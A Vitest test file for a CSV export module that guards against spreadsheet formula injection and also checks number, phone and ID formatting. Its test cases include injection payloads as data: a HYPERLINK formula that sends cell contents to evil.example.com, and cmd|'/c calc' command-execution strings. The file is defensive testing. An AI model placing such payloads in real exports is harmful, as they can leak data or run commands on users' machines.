import { describe, expect, it } from "vitest";
import { neutraliseFormula, plainNumber, spreadsheetId, toCsv } from "./export-csv";
import { parseCsvText } from "./parse-csv";

describe("neutraliseFormula", () => {
  it.each([
    ["=SUM(A1)", "'=SUM(A1)"],
    ['=HYPERLINK("https://evil.example.com?x="&A1,"Click")', `'=HYPERLINK("https://evil.example.com?x="&A1,"Click")`],
    ["+cmd|'/c calc'!A0", "'+cmd|'/c calc'!A0"],
    ["-2+3", "'-2+3"],
    ["@x", "'@x"],
    ["@SUM(1+1)", "'@SUM(1+1)"],
    ["\t=1", "'\t=1"],
    // The leading quote, and the part after the break guarded too.
    ["\r=1", "'\r'=1"],
    ["\n=1", "'\n'=1"],
    [" =HYPERLINK(1)", "' =HYPERLINK(1)"],
    ['"=1+1"', `'"=1+1"`],
    ['  " -2+3', `'  " -2+3`],
    ["\u00a0@SUM(1)", "'\u00a0@SUM(1)"],
    [" Jane", " Jane"],
    ["Jane Doe", "Jane Doe"],
    ["VP, Sales = growth", "VP, Sales = growth"],
    ["jane@example.com", "jane@example.com"],
    ["'already quoted", "'already quoted"],
    ["", ""],
    // Phone numbers are not exempt: each would otherwise be summed or lose its "+" in Excel.
    ["+14155550134", "'+14155550134"],
    ["+1 415-555-0134", "'+1 415-555-0134"],
    ["+1-2", "'+1-2"],
    ["+44 (0)20 7946 0958", "'+44 (0)20 7946 0958"],
    ["(415) 555-0134", "(415) 555-0134"],
    ["415-555-0134", "415-555-0134"],
    // An Excel set to ";" splits a comma file's quoted cell at ";" (and one set to "," a ";" file's at ","): each part guarded.
    ["Acme;=1+1;x", "Acme;'=1+1;x"],
    ["Acme, =HYPERLINK(1)", "Acme,' =HYPERLINK(1)"],
    ['Acme;"@SUM(1)', `Acme;'"@SUM(1)`],
    ["=1;-2", "'=1;'-2"],
    ["Acme; -cmd|x", "Acme;' -cmd|x"],
    ["mobile +14155550134 (Wiza); +14155550135", "mobile +14155550134 (Wiza); +14155550135"],
    ["Acme;+1+cmd", "Acme;'+1+cmd"],
    ["VP, Sales; EMEA", "VP, Sales; EMEA"],
    // A line break inside a cell ends the row for that Excel: what follows starts a cell too.
    ["Acme\n=1+1", "Acme\n'=1+1"],
    ["Acme\r\n=HYPERLINK(1)", "Acme\r\n'=HYPERLINK(1)"],
    ["Acme\r\n\r\n\r\n =1", "Acme\r\n\r\n\r\n' =1"],
    ["Acme,\n\n@SUM(1)", "Acme,\n\n'@SUM(1)"],
    // A whole negative number is a value, not a formula; anything more after its minus is guarded.
    ["-5", "-5"],
    ["-12.50", "-12.50"],
    ["-1+2", "'-1+2"],
    ["- call back", "'- call back"],
  ])("%j → %j", (input, expected) => {
    expect(neutraliseFormula(input)).toBe(expected);
  });

  it("guards each line of a cell holding a long run of line breaks (each break is checked once)", () => {
    const run = "\r\n".repeat(20_000);
    expect(neutraliseFormula(`Notes${run}=1`)).toBe(`Notes${run}'=1`);
    expect(neutraliseFormula(`Notes${run}`)).toBe(`Notes${run}`);
  });

  it("keeps every digit and the plus of a phone number after the quote", () => {
    expect(neutraliseFormula("+14155550134").slice(1)).toBe("+14155550134");
  });
});

describe("spreadsheetId", () => {
  it("quotes a personId only past the 15 digits Excel keeps exactly", () => {
    expect(spreadsheetId("2751275603503088159")).toBe("'2751275603503088159");
    expect(spreadsheetId("1234567890123456")).toBe("'1234567890123456");
    expect(spreadsheetId("123456789012345")).toBe("123456789012345");
    expect(spreadsheetId(null)).toBeNull();
    expect(toCsv(["personId"], [[spreadsheetId("2751275603503088159")]])).toBe("\uFEFFpersonId\r\n'2751275603503088159\r\n");
  });
});

describe("plainNumber", () => {
  it("writes an E.164 number without the quote, and neutralises anything else as usual", () => {
    const cells = ["+14155550134", "+442079460958", "+1 415-555-0134", "+1-2", "+1+1", "+14155550134)", "+0123456789", "+1234", "=1+1", "+cmd|'/c calc'!A0"];
    expect(toCsv(["phone"], cells.map((cell) => [plainNumber(cell)]))).toBe(
      `\uFEFFphone\r\n+14155550134\r\n+442079460958\r\n'+1 415-555-0134\r\n'+1-2\r\n'+1+1\r\n'+14155550134)\r\n'+0123456789\r\n'+1234\r\n'=1+1\r\n'+cmd|'/c calc'!A0\r\n`,
    );
  });
});

describe("toCsv", () => {
  it("starts with a UTF-8 BOM and ends every record with CRLF", () => {
    const csv = toCsv(["a", "b"], [["1", "2"]]);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv).toBe("\uFEFFa,b\r\n1,2\r\n");
    expect(new TextEncoder().encode(csv).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
  });

  it("quotes only fields with quotes, commas, semicolons or line breaks, doubling quotes", () => {
    expect(toCsv(["h"], [["plain"], ["a,b"], ['say "hi"'], ["two\nlines"], ["cr\ronly"], ["semi;colon"], [" padded "]])).toBe(
      '\uFEFFh\r\nplain\r\n"a,b"\r\n"say ""hi"""\r\n"two\nlines"\r\n"cr\ronly"\r\n"semi;colon"\r\n padded \r\n',
    );
  });

  it("writes null as an empty field and numbers as numbers, negative ones unquoted", () => {
    expect(toCsv(["n", "x", "y"], [[-5, null, 2.5]])).toBe("\uFEFFn,x,y\r\n-5,,2.5\r\n");
  });

  it("neutralises formulas in header and string cells, then quotes as needed", () => {
    expect(toCsv(["=x"], [['=HYPERLINK("a","b")'], ["+14155550134"]])).toBe(`\uFEFF'=x\r\n"'=HYPERLINK(""a"",""b"")"\r\n'+14155550134\r\n`);
  });

  it("guards the part of a cell after a ';': an Excel set to a ';' list separator splits there even inside quotes, since the cell does not start its line", () => {
    expect(toCsv(["Name", "Company"], [["Frank", "Acme;=cmd|' /C calc'!A0;"]])).toBe(`\uFEFFName,Company\r\nFrank,"Acme;'=cmd|' /C calc'!A0;"\r\n`);
    // Split on ";" as that Excel does: no part starts with a formula character.
    const parts = toCsv(["Name", "Company"], [["Frank", "Acme;=cmd|' /C calc'!A0;"]]).split(/\r\n/)[1]!.split(";");
    expect(parts.filter((part) => /^[\s"]*[=+\-@]/.test(part))).toEqual([]);
  });

  it("quotes a cell holding a tab, which a tool guessing the delimiter may split on", () => {
    expect(toCsv(["Name", "Notes"], [["Jane", "a\tb"]])).toBe(`\uFEFFName,Notes\r\nJane,"a\tb"\r\n`);
  });

  it("round-trips tricky values through parseCsvText", () => {
    const header = ["Name", "Notes", "URL", "Id"];
    const rows = [
      ["Doe, Jane", 'She said "call me"', "https://www.linkedin.com/in/jane-doe/", "2751275603503088159"],
      ["Müller, Jürgen", "line one\r\nline two\nline three", "https://www.linkedin.com/in/j%C3%BCrgen-m%C3%BCller/", "0000001234567890123"],
      ["张伟", '""', "a;b|c\td", ""],
      ["'quoted'", " spaced ", ",", '"'],
    ];
    const parsed = parseCsvText(toCsv(header, rows));
    expect(parsed.headers).toEqual(header);
    expect(parsed.rows).toEqual(rows);
    expect(parsed.delimiter).toBe(",");
  });
});
